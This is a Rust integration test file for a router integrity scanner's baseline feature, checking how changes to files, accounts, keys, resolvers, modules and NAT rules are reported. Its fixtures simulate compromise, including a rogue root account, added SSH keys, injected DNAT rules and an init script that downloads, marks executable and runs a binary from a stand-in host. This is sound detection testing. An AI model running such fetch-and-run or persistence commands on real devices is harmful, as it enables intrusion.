//! Baselines through the real program: made, compared with, and used by a scan.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing,
    clippy::arithmetic_side_effects,
    missing_docs
)]

#[path = "common/scan.rs"]
mod scan;

use std::ffi::OsStr;
use std::fs::{self, Permissions};
use std::net::TcpListener;
use std::os::unix::fs::{PermissionsExt, chown, symlink};
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::Instant;

use boon::{Compiler, Schemas};
use nix::fcntl::{OFlag, openat};
use nix::sys::stat::{Mode, mkdirat};
use scan::{GATEWATCH, Outcome, Ran, Tree, alone_with, clean, need_root, run, scan};
use serde_json::Value;

/// `gatewatch baseline ARGS --root TREE -o FILE`.
fn baseline(words: &[&str], tree: &Path, file: &Path) -> Ran {
    let mut command = Command::new(GATEWATCH);
    command.env("SOURCE_DATE_EPOCH", "1700000000").arg("baseline").args(words);
    run(command.arg("--root").arg(tree).arg("-o").arg(file))
}

fn create(tree: &Path, file: &Path) -> String {
    let made = baseline(&["create"], tree, file);
    assert_eq!((made.status, made.stderr.as_str()), (0, ""), "{made:?}");
    clean(&made.stdout).to_owned()
}

/// Status and lines of a comparison.
fn verify(tree: &Path, file: &Path) -> (i32, Vec<String>) {
    let ran = baseline(&["verify"], tree, file);
    assert_eq!(ran.stderr, "");
    (ran.status, clean(&ran.stdout).lines().map(str::to_owned).collect())
}

/// A place for files beside the tree.
struct Beside(tempfile::TempDir);

impl Beside {
    fn new() -> Self {
        Self(tempfile::tempdir().unwrap())
    }
    fn file(&self, name: &str) -> PathBuf {
        self.0.path().join(name)
    }
}

/// A tree of a router, as large as its like get.
fn large() -> Tree {
    let mut tree =
        Tree::new().file("etc/passwd", "root:x:0:0:root:/root:/bin/ash\n").link("bin/sh", "busybox");
    for number in 0..1000 {
        tree = tree
            .file(format!("usr/bin/program-{number}"), format!("\x7fELF{number}").repeat(200))
            .file(format!("usr/lib/lib{number}.so.1"), format!("\x7fELF{number}"))
            .file(format!("usr/lib/lua/luci/{}/x{number}.lua", number % 10), format!("return {number}"));
    }
    for number in 0..50 {
        tree = tree
            .file(format!("etc/init.d/service{number}"), "#!/bin/sh /etc/rc.common\nSTART=50\n")
            .link(format!("etc/rc.d/S50service{number}"), format!("../init.d/service{number}"));
    }
    tree.file("bin/busybox", "\x7fELF")
}

const SAME: &str = "same: 0 added, 0 changed, 0 removed, 0 unknown";

#[test]
fn four_differences_in_three_thousand_files_and_nothing_else() {
    let (tree, beside) = (large(), Beside::new());
    let file = beside.file("x.gwb");
    let start = Instant::now();
    let said = create(tree.path(), &file);
    let elapsed = start.elapsed();
    assert!(said.contains("3103 entries: 3102 file, 1 account, 0 key"), "{said}");
    let size = fs::metadata(&file).unwrap().len();
    assert!(size < 3103 * 48, "{size} bytes");
    assert!(elapsed.as_secs() < if cfg!(debug_assertions) { 20 } else { 2 }, "{elapsed:?}");
    assert_eq!(verify(tree.path(), &file), (0, vec![SAME.to_owned()]));

    let at = |name: &str| tree.path().join(name);
    let mut bytes = fs::read(at("usr/bin/program-500")).unwrap();
    bytes[700] ^= 1;
    fs::write(at("usr/bin/program-500"), bytes).unwrap();
    fs::set_permissions(at("usr/lib/lib7.so.1"), Permissions::from_mode(0o4755)).unwrap();
    symlink("../init.d/service1", at("etc/rc.d/S99evil")).unwrap();
    fs::remove_file(at("etc/init.d/service9")).unwrap();
    let (status, lines) = verify(tree.path(), &file);
    assert_eq!(status, 1);
    assert_eq!(
        lines,
        [
            "removed file /etc/init.d/service9",
            "added file /etc/rc.d/S99evil: a link to ../init.d/service1",
            "changed file /usr/bin/program-500: other content",
            "changed file /usr/lib/lib7.so.1: mode 4755, was 0644",
            "differs: 1 added, 2 changed, 1 removed, 0 unknown",
        ]
    );
}

#[test]
fn every_kind_of_difference_has_its_words() {
    let tree = Tree::new()
        .file("etc/passwd", "root:x:0:0:root:/root:/bin/ash\nftp:x:55:55::/home/ftp:/bin/false\n")
        .file("etc/dropbear/authorized_keys", "ssh-ed25519 AAAAC3 me\n")
        .file("etc/resolv.conf", "nameserver 192.0.2.1\n")
        .file("etc/uci-defaults/10_once", "exit 0\n")
        .file("etc/init.d/x", "x")
        .link("etc/rc.d/S1x", "../init.d/x")
        .file("bin/busybox", "x")
        .file("proc/modules", "nf_nat 1 0 - Live 0x0\n")
        .file("tmp/.rc_startup", "made at boot");
    let beside = Beside::new();
    let file = beside.file("x.gwb");
    create(tree.path(), &file);
    fs::remove_file(tree.path().join("etc/uci-defaults/10_once")).unwrap();
    fs::remove_file(tree.path().join("etc/rc.d/S1x")).unwrap();
    fs::remove_file(tree.path().join("bin/busybox")).unwrap();
    let tree = tree
        .file("etc/passwd", "root:x:0:0:root:/root:/bin/sh\nr00t:x:0:0::/:/bin/sh\n")
        .file("etc/dropbear/authorized_keys", "ssh-ed25519 AAAAC3 me\nno-pty ssh-rsa AAAAB3 x\n")
        .file("etc/resolv.conf", "nameserver 198.51.100.66\n")
        .file("proc/modules", "nf_nat 1 0 - Live 0x0\nroot\x1b[2Jkit 1 0 - Live 0x0\n")
        .file("tmp/.rc_startup", "made at the next boot")
        .link("etc/rc.d/S1x", "/dev/null")
        .link("bin/busybox", "x");
    let (status, lines) = verify(tree.path(), &file);
    assert_eq!(status, 1);
    assert_eq!(
        lines,
        [
            "changed file /bin/busybox: a link, was a file",
            "changed file /etc/rc.d/S1x: leads to /dev/null, led to ../init.d/x",
            "removed account ftp",
            "added account r00t: 0:0:/:/bin/sh",
            "changed account root: 0:0:/root:/bin/sh, was 0:0:/root:/bin/ash",
            "added key /etc/dropbear/authorized_keys SHA256:FWGt4GIcWs9Et4BSH5Wh4LGbTlAylFuGDEAy/Cijojs: no-pty",
            "removed resolver 192.0.2.1",
            "added resolver 198.51.100.66",
            "added module root\\x1b[2Jkit",
            "differs: 4 added, 3 changed, 2 removed, 0 unknown",
        ]
    );
    let mut schemas = Schemas::new();
    let path = concat!(env!("CARGO_MANIFEST_DIR"), "/docs/report.schema.json");
    let schema = Compiler::new().compile(path, &mut schemas).unwrap();
    let ran = baseline(&["verify", "--format", "json"], tree.path(), &file);
    let rows: Vec<Value> =
        clean(&ran.stdout).lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    for row in &rows {
        assert!(schemas.validate(row, schema).is_ok(), "{row}");
    }
    assert_eq!((ran.status, rows.len()), (1, 10));
    assert_eq!(rows[8]["name"], "root\\x1b[2Jkit");
    assert_eq!(rows[9]["verdict"], "differs");
}

#[test]
fn what_lies_in_the_way_is_survived() {
    let tree = Tree::new()
        .file("etc/init.d/x", "x")
        .fifo("etc/init.d/fifo")
        .link("usr/bin/loop", "loop")
        .link("usr/lib/up", "..")
        .link("usr/sbin", "/usr/sbin")
        .file(b"usr/bin/\xff\n\x1b[2J", "x")
        .sparse("usr/bin/huge", "\x7fELF", 1 << 40);
    // The path is too long to be made in one piece.
    let mut dir = fs::File::open(tree.path().join("usr")).unwrap();
    let name = "n".repeat(250);
    for name in ["libexec"].into_iter().chain([name.as_str(); 20]) {
        mkdirat(&dir, name, Mode::S_IRWXU).unwrap();
        dir = openat(&dir, name, OFlag::O_DIRECTORY, Mode::empty()).unwrap().into();
    }
    let beside = Beside::new();
    let file = beside.file("x.gwb");
    let made = baseline(&["create"], tree.path(), &file);
    assert_eq!(made.status, 3, "{made:?}");
    assert!(made.stderr.contains("1 things are there and not in the baseline"), "{}", made.stderr);
    assert!(made.stderr.contains("/usr/bin/huge: too large to be hashed; and 1 more"), "{}", made.stderr);
    let (status, lines) = verify(tree.path(), &file);
    assert_eq!(status, 3);
    assert_eq!(lines[0], "unknown file /usr/bin/huge: its content could not be read, now or then");
    assert!(lines[1].starts_with("incomplete: 0 added, 0 changed, 0 removed, "), "{lines:?}");
    // What is new may have been where nobody could look.
    fs::write(tree.path().join("usr/bin/new"), "x").unwrap();
    let (status, lines) = verify(tree.path(), &file);
    assert_eq!(
        (status, lines[1].as_str()),
        (3, "unknown file /usr/bin/new: the baseline does not hold all that was there")
    );
    // The tree is too deep for the library that takes it away.
    let script = format!("rm -rf {}/usr", tree.path().display());
    assert!(Command::new("sh").args(["-c", &script]).status().unwrap().success());
}

#[test]
fn what_may_not_be_read_is_neither_added_nor_removed() {
    need_root();
    let tree =
        Tree::new().file("etc/init.d/x", "x").file("bin/a", "a").file("sbin/b", "b").file("sbin/link", "b");
    let beside = Beside::new();
    let file = beside.file("x.gwb");
    create(tree.path(), &file);
    fs::set_permissions(tree.path(), Permissions::from_mode(0o755)).unwrap();
    fs::set_permissions(beside.0.path(), Permissions::from_mode(0o777)).unwrap();
    fs::set_permissions(tree.path().join("bin/a"), Permissions::from_mode(0o600)).unwrap();
    fs::set_permissions(tree.path().join("sbin"), Permissions::from_mode(0o700)).unwrap();
    let program = beside.file("gatewatch");
    fs::copy(GATEWATCH, &program).unwrap();
    let mut command = Command::new("setpriv");
    command.args(["--reuid", "65534", "--regid", "65534", "--clear-groups"]).arg(&program);
    let ran = run(command.args(["baseline", "verify", "--root"]).arg(tree.path()).arg(&file));
    let lines: Vec<&str> = clean(&ran.stdout).lines().collect();
    assert_eq!(lines[0], "changed file /bin/a: mode 0600, was 0644");
    assert_eq!(lines[1], "unknown file /sbin/b: not everything that is there could be looked at");
    assert_eq!(lines[3], "differs: 0 added, 1 changed, 0 removed, 2 unknown");
    assert_eq!(lines[4], "    /bin/a: permission denied; and 1 more");
    assert_eq!(ran.status, 1);
}

#[test]
fn the_same_tree_gives_the_same_bytes() {
    let beside = Beside::new();
    let one = Tree::healthy().file("bin/a", "a").file("bin/b", "b").link("bin/c", "b");
    let other =
        Tree::new().link("bin/c", "b").file("bin/b", "b").file("bin/a", "a").file("etc/rc.local", "exit 0\n");
    create(one.path(), &beside.file("1"));
    create(other.path(), &beside.file("2"));
    let bytes = fs::read(beside.file("1")).unwrap();
    assert_eq!(bytes, fs::read(beside.file("2")).unwrap());
    assert_eq!(bytes[16..24], 1_700_000_000_u64.to_le_bytes(), "the date of SOURCE_DATE_EPOCH");
    let mut command = Command::new(GATEWATCH);
    command.args(["baseline", "create", "--root"]).arg(one.path()).arg("-o").arg(beside.file("3"));
    assert_eq!(run(&mut command).status, 0);
    let mut later = fs::read(beside.file("3")).unwrap();
    later[16..24].copy_from_slice(&bytes[16..24]);
    assert_eq!(later, bytes, "nothing but the date differs");
    let odd = run(command.env("SOURCE_DATE_EPOCH", "today"));
    assert_eq!(
        (odd.status, odd.stderr.as_str()),
        (3, "gatewatch: SOURCE_DATE_EPOCH: not a number of seconds\n")
    );
}

/// The lines of a comparison of this machine, in its network namespace, that are about NAT.
fn nat_now(file: &Path) -> Vec<String> {
    let ran = run(Command::new(GATEWATCH).args(["baseline", "verify", "--lan-details", "-o"]).arg(file));
    let lines = clean(&ran.stdout).lines().map(str::to_owned);
    lines.filter(|line| line.split(' ').nth(1) == Some("nat")).collect()
}

fn sh(script: &str) {
    let done = Command::new("sh").args(["-ec", script]).output().unwrap();
    assert!(done.status.success(), "{script}: {}", String::from_utf8_lossy(&done.stderr));
}

#[test]
fn a_new_rule_of_the_kernel_and_nothing_that_comes_and_goes() {
    alone_with(&[], || {
        let beside = Beside::new();
        let file = beside.file("x.gwb");
        sh("ip link add wan type veth peer name far; ip link set wan up; ip address add 203.0.113.10/24 dev wan
            nft -f tests/rules/healthy/openwrt-fw4.nft; sh tests/rules/healthy/docker.sh
            iptables-legacy -t nat -A PREROUTING -p udp --dport 53 -j DNAT --to-destination 192.168.1.53");
        let made = run(Command::new(GATEWATCH).args(["baseline", "create", "-o"]).arg(&file));
        // Hairpin, two look-ups and the port forward of fw4; Pi-hole; and that the kernel was asked.
        assert!(clean(&made.stdout).contains(", 6 nat"), "{made:?}");
        assert_eq!(nat_now(&file), [""; 0]);

        // Loaded anew, in another order, with other numbers, counters, addresses, clients and containers.
        sh("ip address del 203.0.113.10/24 dev wan; ip address add 203.0.113.77/24 dev wan
            nft delete table inet fw4; sed 's/203.0.113.10/203.0.113.77/' tests/rules/healthy/openwrt-fw4.nft | grep -v elements | nft -f -
            nft add rule inet fw4 upnp_prerouting udp dport 4000 dnat ip to 192.168.1.51:4000
            iptables-nft -t nat -A DOCKER -p tcp --dport 9090 -j DNAT --to-destination 172.17.0.9:90
            iptables-nft -t nat -A POSTROUTING -s 172.18.0.0/16 -j MASQUERADE
            iptables-nft -A INPUT -p tcp --dport 99 -j ACCEPT
            socat -u /dev/null UDP-SENDTO:127.0.0.1:53");
        assert_eq!(nat_now(&file), [""; 0]);

        sh("iptables-legacy -t nat -I PREROUTING -p tcp --dport 449 -j DNAT --to-destination 198.51.100.9:80
            nft add rule inet fw4 upnp_prerouting tcp dport 450 dnat ip to 198.51.100.9:80
            nft flush chain inet fw4 dstnat_wan");
        let expected = [
            "added nat inet fw4 upnp_prerouting tcp dport 450 dnat to 198.51.100.9 port 80",
            "added nat ip nat PREROUTING tcp dport 449 dnat to 198.51.100.9 port 80",
            "removed nat inet fw4 dstnat_wan ipv4 tcp dport 443 dnat to 192.168.1.20 port 443",
        ];
        let mut found = nat_now(&file);
        found.sort();
        assert_eq!(found, expected);

        // It does not make TrickBot's rule any better that a baseline knows it.
        assert_ne!(run(Command::new(GATEWATCH).args(["baseline", "create", "-o"]).arg(&file)).stdout, b"");
        let option = [OsStr::new("--only"), "nat-redirect".as_ref(), "--baseline".as_ref(), file.as_os_str()];
        let outcome = scan(option);
        let severities: Vec<_> =
            outcome.with("type", "finding").iter().map(|finding| &finding["severity"]).collect();
        assert_eq!(severities, ["notice", "infected"], "{outcome:?}");
    });
}

/// A baseline of an image knows no rules of a kernel's: on the device they are not new.
#[test]
fn an_image_has_no_kernel() {
    alone_with(&[], || {
        let beside = Beside::new();
        let (tree, file) = (
            Tree::new().file("etc/config/firewall", "config redirect\n\toption src_dport 80\n"),
            beside.file("x.gwb"),
        );
        assert!(create(tree.path(), &file).contains(", 1 nat"));
        sh("iptables-legacy -t nat -A PREROUTING -p udp --dport 53 -j REDIRECT");
        let found = nat_now(&file);
        assert_eq!(found, ["removed nat src_dport=80"]);
        let live = beside.file("live.gwb");
        run(Command::new(GATEWATCH).args(["baseline", "create", "-o"]).arg(&live));
        let (_, lines) = verify(tree.path(), &live);
        let nat: Vec<_> = lines.iter().filter(|line| line.split(' ').nth(1) == Some("nat")).collect();
        assert_eq!(
            nat,
            [
                "unknown nat kernel: the rules of the packet filter cannot be seen here",
                "added nat src_dport=80"
            ]
        );
    });
}

/// Image builders are no root; their files will be root's.
#[test]
fn whoever_unpacked_a_tree_is_taken_for_root() {
    need_root();
    let build = || Tree::new().file("etc/init.d/x", "x").file("bin/a", "a").file("bin/daemons", "d");
    let (ours, theirs, beside) = (build(), build(), Beside::new());
    for path in ["", "etc", "etc/init.d", "etc/init.d/x", "bin", "bin/a"] {
        chown(theirs.path().join(path), Some(1000), Some(1000)).unwrap();
    }
    chown(ours.path().join("bin/daemons"), Some(33), None).unwrap();
    chown(theirs.path().join("bin/daemons"), Some(33), None).unwrap();
    create(theirs.path(), &beside.file("theirs"));
    create(ours.path(), &beside.file("ours"));
    assert_eq!(fs::read(beside.file("theirs")).unwrap(), fs::read(beside.file("ours")).unwrap());
    let args = ["--root".as_ref(), theirs.path().as_os_str(), "--baseline".as_ref()];
    let file = beside.file("ours");
    let only = ["--only", "startup-changed"].map(AsRef::as_ref);
    assert_eq!(scan(args.into_iter().chain([file.as_os_str()]).chain(only)).findings, Vec::<Value>::new());
    chown(ours.path().join("bin/a"), Some(1000), None).unwrap();
    assert_eq!(verify(ours.path(), &file).1[0], "changed file /bin/a: owner 1000, was 0");
}

#[test]
fn a_file_that_cannot_be_written_leaves_nothing_behind() {
    let (tree, beside) = (Tree::healthy(), Beside::new());
    let nowhere = beside.file("none/x.gwb");
    let ran = baseline(&["create"], tree.path(), &nowhere);
    let expected =
        format!("gatewatch: {}: not found; name a file that can be written with -o\n", nowhere.display());
    assert_eq!((ran.status, ran.stderr), (3, expected));
    let dir = beside.file("dir");
    fs::create_dir(&dir).unwrap();
    let ran = baseline(&["create"], tree.path(), &dir);
    assert_eq!(ran.status, 3);
    assert!(ran.stderr.contains("/dir: a directory; name a file"), "{}", ran.stderr);
    // The old one stays while the new one is written; what an aborted run left does not matter.
    let file = beside.file("x.gwb");
    fs::write(&file, "old").unwrap();
    symlink("/etc/passwd", beside.file("x.gwb.new")).unwrap();
    create(tree.path(), &file);
    assert!(fs::read(&file).unwrap().starts_with(b"\x89GWB"));
    let mut left: Vec<_> = fs::read_dir(beside.0.path()).unwrap().map(|it| it.unwrap().file_name()).collect();
    left.sort();
    assert_eq!(left, ["dir", "x.gwb"]);
}

#[test]
fn a_file_that_is_no_baseline_is_said() {
    let (tree, beside) = (Tree::healthy(), Beside::new());
    let file = beside.file("x.gwb");
    create(tree.path(), &file);
    let good = fs::read(&file).unwrap();
    for (bytes, why) in [
        (&b"text"[..], "not a baseline: make one with gatewatch baseline create"),
        (&good[..good.len() - 1], "not as long as it says: copy it again"),
    ] {
        fs::write(&file, bytes).unwrap();
        let ran = baseline(&["verify"], tree.path(), &file);
        assert_eq!((ran.status, ran.stderr), (3, format!("gatewatch: {}: {why}\n", file.display())));
        let looked =
            scan(["--root".as_ref(), tree.path().as_os_str(), "--baseline".as_ref(), file.as_os_str()]);
        assert!(looked.stderr.contains(why), "{}", looked.stderr);
        for check in ["startup-added", "startup-changed", "startup-removed"] {
            let (word, reason) = looked.looked(check);
            assert_eq!(word, "no", "{check} {reason}");
            assert!(reason.contains(why), "{reason}");
        }
        assert_eq!(looked.status, 3);
    }
    let ran = baseline(&["verify"], tree.path(), &beside.file("none"));
    assert_eq!((ran.status, ran.stderr.contains("not found")), (3, true));
}

#[test]
fn a_scan_holds_startup_files_against_a_baseline() {
    let tree = Tree::new()
        .file("etc/init.d/x", "#!/bin/sh\nexit 0\n")
        .file("etc/init.d/firewall", "#!/bin/sh\nexit 0\n")
        .file("etc/crontabs/root", "0 4 * * * /sbin/backup\n")
        .link("etc/rc.d/S50x", "../init.d/x");
    let beside = Beside::new();
    let file = beside.file("x.gwb");
    create(tree.path(), &file);
    let look = |only: &str| {
        let args = ["--root".as_ref(), tree.path().as_os_str(), "--baseline".as_ref(), file.as_os_str()];
        scan(args.into_iter().chain(["--only".as_ref(), only.as_ref()]))
    };
    const ALL: &str = "startup-added,startup-changed,startup-removed";
    let healthy = look(ALL);
    assert_eq!(healthy.findings, Vec::<Value>::new());
    assert_eq!(healthy.status, 0);
    assert!(healthy.checks.iter().all(|check| check["looked"] == "yes"), "{:?}", healthy.checks);

    fs::write(tree.path().join("etc/init.d/x"), "#!/bin/sh\n/usr/bin/x &\nexit 0\n").unwrap();
    fs::write(tree.path().join("etc/crontabs/root"), "* * * * * /sbin/backup\n").unwrap();
    fs::write(tree.path().join("etc/init.d/new"), "#!/bin/sh\n").unwrap();
    fs::remove_file(tree.path().join("etc/init.d/firewall")).unwrap();
    let found = look(ALL);
    let mut said: Vec<String> = found
        .findings
        .iter()
        .map(|row| [&row["check"], &row["severity"], &row["path"]].map(|it| it.as_str().unwrap()).join(" "))
        .collect();
    said.sort();
    assert_eq!(
        said,
        [
            "startup-added suspicious /etc/init.d/new",
            "startup-changed suspicious /etc/crontabs/root",
            "startup-changed suspicious /etc/init.d/x",
            "startup-removed suspicious /etc/init.d/firewall",
        ]
    );
    assert!(found.findings.iter().all(|row| row["detail"].as_str().unwrap().contains("the baseline")));
}

/// A baseline of an infected device knows the malware, and that must not help it.
#[test]
fn a_baseline_silences_no_check_of_what_something_does() {
    let tree = Tree::new()
        .file("etc/init.d/x", "#!/bin/sh\nwget http://192.0.2.1/x -O /tmp/x; chmod +x /tmp/x; /tmp/x &\n")
        .file("usr/sbin/dropbear", "\x7fELF")
        .file("usr/sbin/own", "\x7fELF")
        .process(1, b"init", b"/sbin/init", b"init\0")
        .file("sbin/init", "\x7fELF")
        .process(812, b"kworker/0:1", b"/usr/sbin/own", b"[kworker/0:1]\0")
        .process(813, b"x", b"/tmp/x", b"x\0");
    let beside = Beside::new();
    let file = beside.file("x.gwb");
    create(tree.path(), &file);
    let root = || ["--root".as_ref(), tree.path().as_os_str()];
    let without = scan(root());
    let with = scan(root().into_iter().chain(["--baseline".as_ref(), file.as_os_str()]));
    assert_eq!(with.short(), without.short());
    assert!(with.short().len() >= 3, "{:?}", with.short());
    let owners: Vec<&str> = with.findings.iter().filter_map(|row| row["owner"].as_str()).collect();
    assert!(owners.contains(&"baseline"), "{owners:?}");
    assert_eq!(with.looked("exe-unowned").0, "yes");

    // What came after it is nobody's.
    fs::write(tree.path().join("usr/sbin/own"), "\x7fELF other").unwrap();
    let changed = scan(root().into_iter().chain(["--baseline".as_ref(), file.as_os_str()]));
    assert!(changed.short().contains(&"exe-unowned suspicious".to_owned()), "{:?}", changed.short());
}

/// A live machine as small as a router: a root, mounts and a network of its own.
#[test]
fn a_live_machine_is_noted_and_compared() {
    alone_with(&[], || {
        let tree = Tree::new()
            .file("etc/passwd", "root:x:0:0:root:/root:/bin/sh\n")
            .file("etc/init.d/S01x", "#!/bin/sh\n")
            .file("usr/bin/y", "y")
            .dir("proc")
            .dir("tmp");
        let root = tree.path().display();
        let script = format!(
            "cp {GATEWATCH} {root}/gatewatch; for lib in $(ldd {GATEWATCH} | grep -o '/[^ ]*'); do
             cp -L --parents $lib {root}; done"
        );
        assert_eq!(run(Command::new("sh").args(["-c", &script])).status, 0);
        let inside = |words: &str| {
            let script = format!("mount -t proc proc {root}/proc && exec chroot {root} /gatewatch {words}");
            run(Command::new("unshare").args(["--mount", "sh", "-c", &script]))
        };
        let made = inside("baseline create");
        assert_eq!((made.status, made.stderr.as_str()), (0, ""), "{made:?}");
        assert!(clean(&made.stdout).starts_with("/etc/gatewatch/baseline.gwb: "), "{made:?}");
        let same = inside("baseline verify");
        assert_eq!((same.status, clean(&same.stdout)), (0, format!("{SAME}\n").as_str()), "{same:?}");

        let _listener = TcpListener::bind("0.0.0.0:23").unwrap();
        fs::write(tree.path().join("usr/bin/y"), "z").unwrap();
        symlink("../../etc/init.d/S01x", tree.path().join("etc/init.d/S02x")).unwrap();
        let differs = inside("baseline verify");
        assert_eq!(
            clean(&differs.stdout).lines().collect::<Vec<_>>(),
            [
                "added file /etc/init.d/S02x: a link to ../../etc/init.d/S01x",
                "changed file /usr/bin/y: other content",
                "added listener tcp 23",
                "differs: 2 added, 1 changed, 0 removed, 0 unknown",
            ]
        );
        assert_eq!(differs.status, 1);
        // A scan takes the baseline in its place without being told.
        let scanned = Outcome::of(inside("scan --only startup-added -v --format json"));
        assert_eq!(scanned.short(), ["startup-added suspicious"]);
        assert_eq!(scanned.looked("startup-added"), ("yes", ""));
    });
}

#[test]
fn a_scan_holds_users_and_keys_against_a_baseline() {
    let tree = Tree::healthy()
        .file(
            "etc/passwd",
            "root:x:0:0:root:/root:/bin/ash\nadm1n:x:0:0::/root:/bin/ash\nftp:x:55:55::/:/bin/false\n",
        )
        .file("etc/shadow", "root:$1$a$b:0::::::\nadm1n:$1$a$b:0::::::\nftp:*:0::::::\n")
        .file("etc/dropbear/authorized_keys", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIDx0 ann\n");
    let beside = Beside::new();
    let file = beside.file("x.gwb");
    create(tree.path(), &file);
    let look = |baseline: bool| {
        let args =
            ["--root".as_ref(), tree.path().as_os_str(), "--only".as_ref(), "account-odd,ssh-key".as_ref()];
        let named = ["--baseline".as_ref(), file.as_os_str()];
        let named = named.into_iter().filter(|_| baseline);
        let mut short = scan(args.into_iter().chain(named)).short();
        short.sort();
        short
    };
    assert_eq!(look(false), ["account-odd suspicious 2", "ssh-key notice 1"]);
    assert_eq!(look(true), Vec::<String>::new(), "the owner has approved of them");
    let tree = &tree;
    let write = |path: &str, text: &str| fs::write(tree.path().join(path), text).unwrap();
    write(
        "etc/passwd",
        "root:x:0:0:root:/root:/bin/ash\nadm1n:x:0:0::/root:/bin/ash\nftp:x:0:55::/:/bin/sh\n",
    );
    write(
        "etc/dropbear/authorized_keys",
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIDx0 ann\nssh-rsa AAAAB3NzaC1yc2EAAAADAQAB eve\n",
    );
    assert_eq!(look(true), ["account-odd suspicious 3", "ssh-key suspicious 2"]);
}

#[test]
fn only_a_file_is_replaced() {
    let tree = Tree::new().file("etc/init.d/x", "x");
    let place = Tree::new().fifo("pipe");
    let pipe = place.path().join("pipe");
    let ran = run(Command::new(GATEWATCH)
        .args(["baseline", "create", "--root"])
        .arg(tree.path())
        .arg("-o")
        .arg(&pipe));
    assert_eq!(ran.status, 3);
    assert!(ran.stderr.contains("pipe: a named pipe"), "{}", ran.stderr);
    assert_eq!(std::fs::read_dir(place.path()).unwrap().count(), 1, "nothing is left beside it");
    assert!(std::os::unix::fs::FileTypeExt::is_fifo(&std::fs::metadata(&pipe).unwrap().file_type()));
}
